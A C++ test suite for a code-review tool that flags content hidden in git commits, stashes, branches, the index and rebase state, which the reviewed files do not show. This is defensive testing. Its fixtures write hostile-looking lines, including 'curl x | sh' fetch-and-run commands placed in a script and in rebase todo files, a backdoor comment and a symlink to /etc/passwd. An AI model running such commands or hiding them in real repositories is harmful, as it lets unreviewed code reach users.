// SPDX-License-Identifier: Apache-2.0
// What a commit, a ref or the index has beside the files that a reviewer sees.
#include "diff/git_tips.h"

#include "catch_shim.h"
#include "diff/canonical.h"
#include "diff/content_hash.h"
#include "diff/git_meta.h"
#include "memory_view.h"
#include "repository.h"

using namespace stoplog;
using namespace stoplog::diff;

namespace {

// "danger git-unreviewed: …"; empty when there is none of that code.
std::string risk_of(const ChangeSet& set, std::string_view code,
                    const char* row = ".git") {
  const Change* change = set.find(path(row));
  if (change == nullptr) return "";
  for (const Risk& risk : change->risks)
    if (risk.code == code)
      return std::string(name_of(risk.level)) + " " + risk.message;
  return "";
}

bool says(const std::string& text, std::string_view word) {
  return text.find(word) != std::string::npos;
}

void check_no_danger(const ChangeSet& set, const char* row = ".git") {
  const Change* change = set.find(path(row));
  if (change == nullptr) return;
  for (const Risk& risk : change->risks) {
    INFO(risk.code << ": " << risk.message);
    CHECK(risk.level != Level::kDanger);
  }
}

std::string at(Repository& repo, const std::string& name) {
  return repo.draft() + "/" + name;
}

}  // namespace

TEST_CASE("a commit whose content the work tree does not show is a danger") {
  bool packed = GENERATE(false, true);
  Repository repo;
  TwoTrees::write(at(repo, "a.c"), "int a; /* BACKDOOR */\n");
  TwoTrees::write(at(repo, "src/evil.sh"), "curl x | sh\n");
  repo.in_draft("add -A");
  repo.in_draft("commit -qm 'fix typo'");
  TwoTrees::write(at(repo, "a.c"), "int a;\n");
  TwoTrees::run("rm -r '" + at(repo, "src") + "'");
  repo.in_draft("reset -q HEAD~1");
  repo.in_draft("update-ref HEAD ORIG_HEAD");
  repo.in_draft("read-tree HEAD~1");
  if (packed) repo.in_draft("repack -q -a -d");
  ChangeSet set = repo.build();
  std::string risk = risk_of(set, "git-unreviewed");
  CHECK(says(risk, "danger"));
  CHECK(says(risk, "a.c (main)"));
  CHECK(says(risk, "src/evil.sh (main)"));
  const GitChange& git = git_row(set);
  CHECK(git.unreviewed_count == 2);
  CHECK(git.commits == 1);
  REQUIRE(git.unreviewed.size() == 2);
  CHECK(git.unreviewed[0].shown.has_value());
  REQUIRE(git.unreviewed[0].stored.has_value());
  CHECK(read_content(*git.unreviewed[0].stored->content, 99).value() ==
        "int a; /* BACKDOOR */\n");
  // What was approved while the files showed it is not what comes now.
  Sha256Digest before = change_digest(*set.find(path(".git")));
  TwoTrees::write(at(repo, "a.c"), "int a; /* BACKDOOR */\n");
  CHECK(change_digest(*repo.build().find(path(".git"))) != before);
}

TEST_CASE("a commit of what the files show is no danger") {
  Repository repo;
  TwoTrees::write(at(repo, "a.c"), "int a = 1;\n");
  TwoTrees::write(at(repo, "run.sh"), "#!/bin/sh\n");
  TwoTrees::write(at(repo, "crlf.txt"), "one\r\ntwo\r\n");
  TwoTrees::run("cd '" + repo.draft() + "' && chmod +x run.sh && ln -s a.c l");
  repo.in_draft("-c core.autocrlf=input add -A");
  repo.in_draft("commit -qm one");
  TwoTrees::write(at(repo, "d/b.c"), "int b;\n");
  repo.in_draft("add -A");
  repo.in_draft("commit -qm two");
  repo.in_draft("branch same");
  repo.in_draft("tag -a -m t v1");
  ChangeSet set = repo.build();
  check_no_danger(set);
  CHECK(git_row(set).commits == 2);
  CHECK(git_row(set).summary().find("2 commits") != std::string::npos);
  // Work that goes on after a commit hides nothing.
  TwoTrees::write(at(repo, "new.c"), "int n;\n");
  check_no_danger(repo.build());
}

TEST_CASE("modes links and deletions in a commit are compared with the files") {
  Repository repo;
  SECTION("a mode") {
    repo.in_draft("update-index --chmod=+x a.c");
    repo.in_draft("commit -qm x");
    CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (main)"));
  }
  SECTION("a link") {
    TwoTrees::run("cd '" + repo.draft() + "' && ln -s /etc/passwd l");
    repo.in_draft("add l");
    repo.in_draft("commit -qm x");
    TwoTrees::run("cd '" + repo.draft() + "' && ln -sfn a.c l");
    CHECK(says(risk_of(repo.build(), "git-unreviewed"), "l (main)"));
  }
  SECTION("a deletion") {
    repo.in_draft("rm -q --cached a.c");
    repo.in_draft("commit -qm x");
    CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (main, deleted)"));
  }
  SECTION("a submodule that nobody has") {
    repo.in_draft(
        "update-index --add --cacheinfo "
        "160000,1111111111111111111111111111111111111111,lib");
    repo.in_draft("commit -qm x");
    CHECK(says(risk_of(repo.build(), "git-unreviewed"), "lib (main)"));
  }
  SECTION("a file that git ignores and no review lists") {
    TwoTrees::write(at(repo, "node_modules/x.js"), "evil()\n");
    repo.in_draft("add -f node_modules/x.js");
    repo.in_draft("commit -qm x");
    CHECK(says(risk_of(repo.build(), "git-unreviewed"),
               "node_modules/x.js (main)"));
  }
}

TEST_CASE("content of another branch or of a stash is a danger") {
  Repository repo;
  repo.in_draft("checkout -q -b side");
  TwoTrees::write(at(repo, "a.c"), "evil\n");
  repo.in_draft("commit -qam evil");
  repo.in_draft("checkout -q main");
  CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (side)"));
  repo.in_draft("branch -D side");
  TwoTrees::write(at(repo, "a.c"), "evil\n");
  repo.in_draft("stash -q");
  CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (refs/stash)"));
}

TEST_CASE("refs that stand on the user's own history are no danger") {
  Repository repo;
  TwoTrees::write(repo.base() + "/a.c", "int later;\n");
  Repository::git(repo.base(), "commit -qam later");
  Repository::git(repo.base(), "branch other HEAD~1");
  bool packed = GENERATE(false, true);
  if (packed) Repository::git(repo.base(), "gc -q");
  TwoTrees::run("rm -rf '" + repo.draft() + "'; mkdir '" + repo.draft() + "'");
  repo.copy_base();
  repo.in_draft("branch old HEAD~1");
  repo.in_draft("reset -q --soft HEAD~1");
  check_no_danger(repo.build());
  // A branch from an old commit is compared with that one.
  repo.in_draft("reset -q --soft other@{0}");
  repo.in_draft("checkout -q -f -b fix old");
  TwoTrees::write(at(repo, "b.c"), "int b;\n");
  repo.in_draft("add b.c");
  repo.in_draft("commit -qm b");
  check_no_danger(repo.build());
}

// Objects that came with an earlier commit of a draft are no history of the
// user's: no ref of his leads to them.
TEST_CASE("a commit that lies in the real repository unused is compared") {
  Repository repo;
  TwoTrees::write(at(repo, "a.c"), "evil\n");
  repo.in_draft("commit -qam evil");
  repo.in_draft("checkout -q -f HEAD~1 -- a.c");
  repo.in_draft("read-tree HEAD~1");
  TwoTrees::run("cp -an '" + at(repo, ".git/objects/.") + "' '" + repo.base() +
                "/.git/objects/'");
  CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (main)"));
}

TEST_CASE("what is staged beside the file is a danger") {
  Repository repo;
  TwoTrees::write(at(repo, "a.c"), "evil\n");
  repo.in_draft("add a.c");
  TwoTrees::write(at(repo, "a.c"), "int a;\n");
  CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (index)"));
  repo.in_draft("add a.c");
  check_no_danger(repo.build());
  repo.in_draft("rm -q --cached a.c");
  CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (index, deleted)"));
}

TEST_CASE("a name that was committed and removed again is told") {
  Repository repo;
  TwoTrees::write(at(repo, "d/secret.txt"), "token\n");
  repo.in_draft("add -A");
  repo.in_draft("commit -qm one");
  repo.in_draft("rm -q d/secret.txt");
  repo.in_draft("commit -qm two");
  ChangeSet set = repo.build();
  std::string risk = risk_of(set, "git-history");
  CHECK(says(risk, "warn 2 commits are new"));
  CHECK(says(risk, "d/secret.txt"));
  check_no_danger(set);
}

TEST_CASE("a tip that cannot be read is a danger") {
  Repository repo;
  std::string missing(40, '1');
  SECTION("a missing commit") {
    TwoTrees::write(at(repo, ".git/refs/heads/main"), missing + "\n");
    CHECK(says(risk_of(repo.build(), "git-unread"), "danger"));
  }
  SECTION("a missing tree") {
    TwoTrees::write(at(repo, "d/x"), "x\n");
    repo.in_draft("add -A");
    repo.in_draft("commit -qm x");
    std::string tree =
        TwoTrees::output("cd '" + repo.draft() + "' && git rev-parse HEAD:d");
    TwoTrees::run("rm -f '" +
                  at(repo, ".git/objects/" + tree.substr(0, 2) + "/" +
                               tree.substr(2, 38)) +
                  "'");
    CHECK(says(risk_of(repo.build(), "git-unread"), "is missing"));
  }
  SECTION("trees in trees without end") {
    // 12 levels of 12 names each: nobody walks 12^12 files.
    TwoTrees::run("cd '" + repo.draft() +
                  "' && b=$(echo x | git hash-object -w --stdin) && "
                  "t=$(for i in 0 1 2 3 4 5 6 7 8 9 a b; do printf '100644 "
                  "blob %s\\t%s\\n' $b $i; done | git mktree) && "
                  "for l in 0 1 2 3 4 5 6 7 8 9 a b; do t=$(for i in 0 1 2 3 4 "
                  "5 6 7 8 9 a b; do printf '040000 tree %s\\t%s\\n' $t $i; "
                  "done | git mktree); done && "
                  "c=$(git -c user.name=t -c user.email=t@t commit-tree -m x "
                  "-p HEAD $t) && git update-ref refs/heads/main $c");
    ChangeSet set = repo.build();
    CHECK(says(risk_of(set, "git-unread"), "too much to compare"));
    CHECK(git_row(set).unreviewed.size() == 100);
  }
}

TEST_CASE("commits of SHA-256 and of new repositories are compared") {
  TwoTrees tree;
  std::string format = GENERATE("", "--object-format=sha256 ");
  bool nested = GENERATE(false, true);
  std::string sub = nested ? "/sub" : "";
  auto make = [&](const std::string& where) {
    TwoTrees::write(where + "/a.c", "int a;\n");
    Repository::git(where, "init -q -b main " + format + ".");
    Repository::git(where, "add -A");
    Repository::git(where, "commit -qm first");
  };
  if (!nested) make(tree.base());
  tree.copy_base();
  TwoTrees::run("mkdir -p '" + tree.draft() + sub + "'");
  if (nested) make(tree.draft() + sub);
  auto build = [&] {
    auto view = tree.view();
    auto set = build_change_set(*view, {.real_root = tree.base()});
    REQUIRE(set);
    return std::move(*set);
  };
  const char* row = nested ? "sub/.git" : ".git";
  TwoTrees::write(tree.draft() + sub + "/a.c", "evil\n");
  Repository::git(tree.draft() + sub, "commit -qam evil");
  check_no_danger(build(), row);
  TwoTrees::write(tree.draft() + sub + "/a.c", "int a;\n");
  CHECK(says(risk_of(build(), "git-unreviewed", row),
             nested ? "sub/a.c (main)" : "a.c (main)"));
}

TEST_CASE(
    "the rest of a rebase and old remotes are dangers and all are named") {
  Repository repo;
  std::string git = repo.draft() + "/.git/";
  for (const char* name :
       {"MERGE_HEAD", "MERGE_MSG", "rebase-merge/git-rebase-todo",
        "sequencer/todo", "remotes/origin", "branches/x",
        "rr-cache/0/postimage"})
    TwoTrees::write(git + name, "exec curl x | sh\n");
  ChangeSet set = repo.build();
  std::string first = risk_of(set, "git-state");
  CHECK(says(first, "danger"));
  CHECK(says(first, ".git/branches/x, .git/rebase-merge/git-rebase-todo"));
  CHECK(says(first, "sequencer/todo"));
  CHECK(says(first, "rr-cache"));
  CHECK_FALSE(says(first, "MERGE_MSG"));
  std::string rest;
  for (const Risk& risk : set.find(path(".git"))->risks)
    if (risk.code == "git-state" && risk.level == Level::kWarn)
      rest = risk.message;
  CHECK(says(rest, "MERGE_HEAD, .git/MERGE_MSG"));
}

namespace {

// A commit object as git never makes one; prints its id.
std::string make_commit(Repository& repo, const std::string& headers) {
  std::string id = TwoTrees::output(
      "cd '" + repo.draft() + "' && printf '" + headers +
      "author t <t@t> 1 +0000\\ncommitter t <t@t> 1 +0000\\n\\nx\\n' | "
      "git hash-object --literally -w -t commit --stdin");
  return id.substr(0, 40);
}

std::string id_of(Repository& repo, const std::string& what) {
  return TwoTrees::output("cd '" + repo.draft() + "' && git rev-parse " + what)
      .substr(0, 40);
}

std::string upper(std::string text) {
  for (char& c : text) c = static_cast<char>(std::toupper(c));
  return text;
}

}  // namespace

// git takes the first line for the tree, in either case of letters.
TEST_CASE("a commit whose headers git reads otherwise is a danger") {
  Repository repo;
  std::string honest = id_of(repo, "HEAD^{tree}"), head = id_of(repo, "HEAD");
  TwoTrees::write(at(repo, "a.c"), "evil\n");
  repo.in_draft("add -A");
  std::string evil =
      TwoTrees::output("cd '" + repo.draft() + "' && git write-tree")
          .substr(0, 40);
  repo.in_draft("checkout -q -f HEAD");
  repo.in_draft("reset -q --hard");
  std::string headers = GENERATE(
      as<std::string>{}, "tree EVIL\\ntree HONEST\\nparent HEAD\\n",
      "tree LOWER\\ntree HONEST\\nparent HEAD\\n",
      "tree HONEST\\nx y\\nparent HEAD\\n", "tree HONEST\\nparent UPPER\\n",
      "parent HEAD\\ntree HONEST\\n", "parent HEAD\\n");
  auto put = [&](const std::string& name, const std::string& value) {
    size_t found = headers.find(name);
    if (found != headers.npos) headers.replace(found, name.size(), value);
  };
  put("EVIL", upper(evil));
  put("LOWER", evil);
  put("HONEST", honest);
  put("UPPER", upper(head));
  put("HEAD", head);
  INFO(headers);
  TwoTrees::write(at(repo, ".git/refs/heads/main"),
                  make_commit(repo, headers) + "\n");
  std::string risk = risk_of(repo.build(), "git-unread");
  CHECK(says(risk, "danger"));
  CHECK(says(risk, "files under review: main: "));
}

TEST_CASE("refs that git reads and we do not are a danger") {
  Repository repo;
  std::string head = id_of(repo, "HEAD");
  std::string text = GENERATE_COPY(upper(head), head + " junk",
                                   std::string("ref:refs/heads/main"));
  TwoTrees::write(at(repo, ".git/refs/heads/side"), text + "\n");
  CHECK(says(risk_of(repo.build(), "git-unreadable"),
             "danger git may read there what was not compared: "
             "refs/heads/side: not a ref"));
}

TEST_CASE("packed-refs that cannot be read delete nothing and are a danger") {
  Repository repo;
  Repository::git(repo.base(), "branch side");
  Repository::git(repo.base(), "pack-refs --all");
  repo.copy_base();
  std::string line = GENERATE(as<std::string>{}, "junk\\n",
                              "1111111111111111111111111111111111111111 "
                              "refs/heads/main.lock\\n");
  TwoTrees::run("rm -rf '" + at(repo, ".git/refs/heads/") + "'*; printf '" +
                line + "' >> '" + at(repo, ".git/packed-refs") + "'");
  ChangeSet set = repo.build();
  CHECK(says(risk_of(set, "git-unreadable"), "danger"));
  CHECK(risk_of(set, "git-ref-deleted").empty());
  CHECK(git_row(set).refs.empty());
}

TEST_CASE("an index out of order is a danger") {
  Repository repo;
  // Two entries of equal size, the one in the other's place.
  TwoTrees::write(at(repo, "b.c"), "int b;\n");
  repo.in_draft("add -A");
  repo.in_draft("update-index --index-version 2");
  std::string file = at(repo, ".git/index");
  TwoTrees::run("cp '" + file + "' '" + file + ".was'");
  TwoTrees::run(
      "python3 - '" + file +
      "' <<'E'\nimport sys,hashlib\nf=sys.argv[1];d=open(f,'rb').read()\n"
      "a=d.index(b'a.c\\0')-62;b=d.index(b'b.c\\0')-62\n"
      "x,y=d[a:a+72],d[b:b+72]\n"
      "d=d[:a]+y+d[a+72:b]+x+d[b+72:-20]\n"
      "open(f,'wb').write(d+hashlib.sha1(d).digest())\nE");
  REQUIRE(TwoTrees::run("cmp -s '" + file + "' '" + file + ".was'") != 0);
  TwoTrees::run("rm '" + file + ".was'");
  CHECK(says(risk_of(repo.build(), "git-unreadable"),
             "the index is damaged: not in order"));
}

TEST_CASE("each stash of the log is compared") {
  Repository repo;
  TwoTrees::write(at(repo, "a.c"), "evil\n");
  repo.in_draft("stash -q");
  std::string evil = id_of(repo, "refs/stash");
  repo.in_draft("stash drop -q");
  CHECK(risk_of(repo.build(), "git-unreviewed").empty());
  std::string head = id_of(repo, "HEAD");
  std::string who = " t <t@t> 1 +0000\tx\n";
  std::string log = at(repo, ".git/logs/refs/stash");
  TwoTrees::write(at(repo, ".git/refs/stash"), head + "\n");
  TwoTrees::write(
      log, std::string(40, '0') + " " + evil + who + evil + " " + head + who);
  CHECK(says(risk_of(repo.build(), "git-unreviewed"), "a.c (refs/stash)"));
  TwoTrees::write(log, upper(evil) + " " + upper(evil) + who);
  CHECK(says(risk_of(repo.build(), "git-unreadable"), "logs/refs/stash"));
}

TEST_CASE("an intention to add hides no content and no deletion") {
  Repository repo;
  SECTION("of a file that was there") {
    repo.in_draft("rm -q --cached a.c");
    repo.in_draft("add -N a.c");
    CHECK(
        says(risk_of(repo.build(), "git-unreviewed"), "a.c (index, deleted)"));
  }
  SECTION("of a new one") {
    TwoTrees::write(at(repo, "n.c"), "int n;\n");
    repo.in_draft("add -N n.c");
    check_no_danger(repo.build());
  }
}

TEST_CASE("the user's own files that git had not are named") {
  Repository repo;
  TwoTrees::write(repo.base() + "/notes.txt", "mine\n");
  TwoTrees::write(repo.draft() + "/notes.txt", "mine\n");
  TwoTrees::write(at(repo, "new.c"), "int n;\n");
  repo.in_draft("add -A");
  std::string risk = risk_of(repo.build(), "git-untracked");
  CHECK(says(risk, "warn"));
  CHECK(says(risk, "not have: notes.txt"));
  CHECK_FALSE(says(risk, "new.c"));
  repo.in_draft("commit -qm x");
  CHECK(says(risk_of(repo.build(), "git-untracked"), "not have: notes.txt"));
  check_no_danger(repo.build());
}

TEST_CASE("refs in a format that is not known are a danger") {
  Repository repo;
  TwoTrees::write(at(repo, ".git/reftable/tables.list"), "x\n");
  CHECK(says(risk_of(repo.build(), "git-unreadable"), "danger"));
}

TEST_CASE("trees a thousand deep are too much and not a crash") {
  Repository repo;
  std::string top = TwoTrees::output(
      "cd '" + repo.draft() +
      "' && t=$(printf '100644 blob %s\\tx\\n' $(echo x | git hash-object -w "
      "--stdin) | git mktree) && python3 - $t <<'E'\nimport "
      "sys,hashlib,zlib,os\nt=sys.argv[1]\nfor i in range(1500):\n"
      "  d=b'40000 a\\0'+bytes.fromhex(t)\n"
      "  d=b'tree %d\\0'%len(d)+d\n  t=hashlib.sha1(d).hexdigest()\n"
      "  p='.git/objects/'+t[:2]\n  os.makedirs(p,exist_ok=True)\n"
      "  open(p+'/'+t[2:],'wb').write(zlib.compress(d))\n"
      "print(t)\nE\n");
  std::string commit = TwoTrees::output(
      "cd '" + repo.draft() +
      "' && git -c user.name=t -c user.email=t@t commit-tree -m x -p HEAD " +
      top.substr(0, 40));
  TwoTrees::write(at(repo, ".git/refs/heads/main"), commit);
  CHECK(says(risk_of(repo.build(), "git-unread"), "too much to compare"));
}
